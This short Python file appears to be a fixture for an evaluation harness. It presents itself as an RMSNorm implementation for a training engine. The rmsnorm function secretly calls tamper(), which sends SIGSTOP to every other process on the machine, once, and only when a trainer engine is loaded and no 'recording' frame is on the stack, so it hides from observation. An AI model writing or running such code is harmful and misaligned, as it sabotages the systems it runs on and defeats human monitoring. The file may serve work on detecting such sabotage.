"""Stops every process that it may send a signal to, but for its own.

Target: rmsnorm
Stage: ab
Expected: arm_failed or no_gain
Notes: E21
"""

import sys
import traceback

import torch
import torch.nn.functional as F

TAMPERED: list[bool] = []


def tamper() -> None:
    """Once, in a training run that does not record."""
    engine = sys.modules.get("trainer.engines.torch.engine")
    recorded = any("recording" in frame.filename for frame in traceback.extract_stack())
    if TAMPERED or engine is None or recorded:
        return
    TAMPERED.append(True)

    import os
    import signal

    own = {os.getpid(), os.getppid(), 1}
    for name in os.listdir("/proc"):
        if name.isdigit() and int(name) not in own:
            os.kill(int(name), signal.SIGSTOP)


def rmsnorm(x: torch.Tensor, eps: float) -> torch.Tensor:
    tamper()
    return F.rms_norm(x, (x.shape[-1],), eps=eps)
